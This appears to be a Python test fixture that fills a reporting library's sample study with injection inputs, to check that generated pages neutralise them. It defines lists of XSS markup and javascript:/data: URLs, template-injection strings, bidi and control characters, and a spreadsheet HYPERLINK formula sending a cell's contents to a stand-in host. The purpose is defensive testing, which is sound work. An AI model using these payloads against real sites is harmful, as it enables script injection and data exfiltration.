"""A study that means harm: a copy of the tiny one with an attack in every place that it has."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import yaml

from reportlib.study import Study
from tests.conftest import TINY, copy_of, in_notebook

MARKUP = (
    "<script>window.harm=1</script>",
    '<img src="x" onerror="window.harm=1">',
    "<svg onload=window.harm=1><animate onbegin=window.harm=1 attributeName=x dur=1s></svg>",
    "</script><script>window.harm=1</script>",
    "</style></title></textarea></select></details></table></main>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>parent.harm=1</script>'></iframe>",
    "<base href=https://harm.example/><link rel=stylesheet href=https://harm.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://harm.example/'>",
    "<form action=https://harm.example/><input autofocus onfocus=window.harm=1></form>",
    "<a href='javascript:window.harm=1'>a</a> <a href=' java\tscript:window.harm=1'>b</a>",
    "<a href='data:text/html,<script>window.harm=1</script>'>c</a>",
    "<a href='vbscript:x' onclick='window.harm=1' style='position:fixed;inset:0'>d</a>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=window.harm=1>--></math>",
)
"""Markup that would run, reach out or break the page if it were taken for markup."""

OTHER = (
    "[e](javascript:window.harm=1) [f](data:text/html,x) ![g](https://harm.example/g.png)",
    "<https://harm.example> <javascript:window.harm=1>",
    "<!-- <![CDATA[ ]]> --> &lt;b&gt; &#60;script&#62; &amp;amp;",
    "{{ 7*7 }} {% raw %} {# #} ${7*7} #{7*7} {{ self._TemplateReference__context }}",
    "datum.constructor.constructor('window.harm=1')() [\"toString\"] \\u003cscript\\u003e \\",
    "\" onmouseover=\"window.harm=1\" ' onfocus='window.harm=1' ` autofocus=",
    "one\u2028line\u2029more \u202eback\u202c \u2066wards\u2069 \x07\x1b[31m\x7f\x85\x9b31m",
    "W" * 400,
)
"""What some other reader would take for more than text, or would not show as it is."""

HARM = " ".join([*MARKUP, *OTHER])
CONTROLS = "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]"
"""What no page may hold: it could make a name look like another."""

FORMULA = '=HYPERLINK("https://harm.example/?"&A1,"open")'
SET = "\"><img src=x onerror='window.harm=1'>{{ 7*7 }} #1?%41&amp;"
NOTEBOOK = f"{SET}-bridge.ipynb"
FOLDER = f"<b>&'\"{SET}"
VALUE = f"any {SET}"
"""A name of a parameter set, of a notebook, of the study's folder; a parameter's value."""

ADDRESSES = {
    "town_log": "javascript:window.harm=1",
    "town_count": 'https://town.example/"onclick="window.harm=1"\'><script>window.harm=1</script>',
    "gazette_opening": " data:text/html,<script>window.harm=1</script>",
    "club_count": "HTTPS:javascript:window.harm=1",
}
"""By source, the address that it claims to be at; one of them begins as an address does."""

MEANT = {
    "assertions.value": "is compared: a date, number or word",
    "assertions.unit": "says how that is read",
    "assertions.hedge": "one of a few words",
    "coverage.table": "names a table",
    "members.requires_value": "is compared",
    "printed.value": "is compared",
    "row_sources.key": "names a row",
}
"""Columns of text that another place gives a meaning: harm in them is refused, or is compared."""


def free_columns(study: Study) -> Iterator[tuple[str, Path, list[str]]]:
    """By resource, its file and the columns into which its description lets any text."""
    for resource in described(study):
        schema = resource["schema"]
        named = {
            name
            for key in schema.get("foreignKeys", [])
            for name in ([key["fields"]] if isinstance(key["fields"], str) else key["fields"])
        }
        free = [
            field["name"]
            for field in schema["fields"]
            if field["type"] == "string"
            and not {"pattern", "enum"} & field.get("constraints", {}).keys()
            and field["name"] not in named
            and f"{resource['name']}.{field['name']}" not in MEANT
        ]
        yield resource["name"], study.data / resource["path"], free


def described(study: Study) -> list[dict[str, Any]]:
    """The resources of the data package."""
    return list(json.loads(study.descriptor.read_text(encoding="utf-8"))["resources"])


def changed(path: Path, cells: Mapping[str, str]) -> None:
    """Put text into columns of a file, or with ``{}`` before it behind what stands there."""
    with path.open(encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    for line in lines:
        for name, text in cells.items():
            if line[name] or not text.startswith("{}"):
                line[name] = line[name] + text[2:] if text.startswith("{}") else text
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(lines[0]))
        writer.writeheader()
        writer.writerows(lines)


def hostile_study(folder: Path) -> Study:
    """The tiny study with harm in every place that people fill in."""
    study = copy_of(TINY, folder / FOLDER)
    for name, path, columns in free_columns(study):
        # The same body is named in several tables, and has to stay the same.
        harmed = {
            column: f"{{}}{HARM}" if column in ("origin", "register") else f"{name}.{column} {HARM}"
            for column in columns
        }
        changed(path, harmed)
    changed(study.data / "tables/crossings.csv", {"counted_by": f"{FORMULA} {HARM}"})
    _addresses(study)
    _parameters(study)
    _notebooks(study)
    (study.data / "tables" / f"{SET}.txt").write_text("", encoding="utf-8")
    return study


def _addresses(study: Study) -> None:
    descriptor = json.loads(study.descriptor.read_text(encoding="utf-8"))
    for resource in descriptor["resources"]:
        resource["title"] = resource["description"] = HARM
        for field in resource["schema"]["fields"]:
            field["title"] = field["description"] = HARM
            if field["name"] in ("url", "also_at"):
                field.pop("constraints")  # the page must not rely on what the description demands
    study.descriptor.write_text(json.dumps(descriptor), encoding="utf-8")
    path = study.data / "sources/sources.csv"
    with path.open(encoding="utf-8", newline="") as file:
        lines = list(csv.DictReader(file))
    for line in lines:
        line["url"] = line["also_at"] = ADDRESSES.get(line["source"], "")
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(lines[0]))
        writer.writeheader()
        writer.writerows(lines)


def _parameters(study: Study) -> None:
    meanings = yaml.safe_load(study.meanings.read_text(encoding="utf-8"))
    for name, entry in meanings.items():
        for told in ("label", "question", "why"):
            entry[told] = f"{name}.{told} {HARM}"
        for value, about in entry.get("values", {}).items():
            about["label"] = f"{name}.{value} {HARM}"
    closed = meanings["closures"]["values"]
    closed[VALUE] = {"label": f"closures.VALUE {HARM}", "rows": {"closed_to": [VALUE]}}
    study.meanings.write_text(yaml.safe_dump(meanings), encoding="utf-8")
    own = study.parameter_set("hindsight").read_text(encoding="utf-8")
    study.parameter_set("hindsight").unlink()
    study.parameter_set(SET).write_text(f"{own}\nclosures: {json.dumps(VALUE)}\n", encoding="utf-8")


def _notebooks(study: Study) -> None:
    in_notebook(study, 'y=alt.Y("date:N"', 'y=alt.Y("counted_by:N"')
    in_notebook(study, 'f"As many as {', 'plotted.counted_by.iloc[0] + f"As many as {')
    said = json.dumps(f"Said of {{B1}}: {HARM.replace('{', '{{').replace('}', '}}')}")
    in_notebook(
        study,
        'chapter.say("The bridge was opened on {B1}; '
        '{B2.rows} rows bear on its closures.", on="B1")',
        f'chapter.say({said}, on="B1")  # digits: those of an attack',
    )
    (chapter,) = study.chapters()
    report = json.loads(study.report.read_text(encoding="utf-8"))
    code = [cell for cell in report["cells"] if cell["cell_type"] == "code"][-1]
    shown = [
        f"from IPython.display import HTML, SVG, Javascript, Markdown, display\nHARM = {HARM!r}",
        "HTML(HARM)",
        "display(Javascript('window.harm=1'), SVG('<svg onload=\"window.harm=1\"/>'))",
        "display({'text/html': HARM, 'application/javascript': 'window.harm=1'}, raw=True)",
        "Markdown(HARM)",
        "print(HARM)",
        "HARM",
        "import pandas as pd\npd.DataFrame({HARM: [HARM]})",
        "HTML('<p data-claim=B1>x</p><p data-number=held>x</p><p data-reason=B1>x</p>"
        "<article class=rl-card><h3>x</h3></article>')",
    ]
    report["cells"][-2]["source"] = (
        f"<!-- digits: those of an attack -->\n\n## Method {HARM}\n\nIn prose: {HARM}\n"
    )
    report["cells"] += [
        code | {"id": f"harm-{number}", "source": source} for number, source in enumerate(shown)
    ]
    study.report.write_text(json.dumps(report), encoding="utf-8")
    chapter.rename(chapter.with_name(NOTEBOOK))
